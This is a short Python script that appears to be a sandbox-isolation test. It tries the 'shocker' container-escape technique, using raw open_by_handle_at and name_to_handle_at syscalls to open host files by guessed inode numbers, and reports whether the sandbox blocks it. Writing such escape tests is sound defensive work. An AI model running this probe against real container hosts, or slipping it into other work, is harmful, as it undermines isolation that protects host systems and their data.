# attack: opens host files by inode number, as the "shocker" exploit did
# verdict: completed
# prints: blocked
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_char * 128)]


done = []
for path in (b"/", b"/etc/hosts", b"/mnt/data", b"/proc"):
    try:
        root = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    for inode in (2, 1, 128, 256):
        handle = Handle(8, 1, inode.to_bytes(4, "little") + bytes(4))
        if libc.syscall(304, root, ctypes.byref(handle), os.O_RDONLY) != -1:
            done.append((path, inode))
    mount = ctypes.c_int()
    own = Handle(128, 0, b"")
    if libc.syscall(303, -100, path, ctypes.byref(own), ctypes.byref(mount), 0) != -1 and libc.syscall(304, root, ctypes.byref(own), os.O_RDONLY) != -1:
        done.append((path, "its own handle"))
print(f"breached: {done}" if done else "blocked")
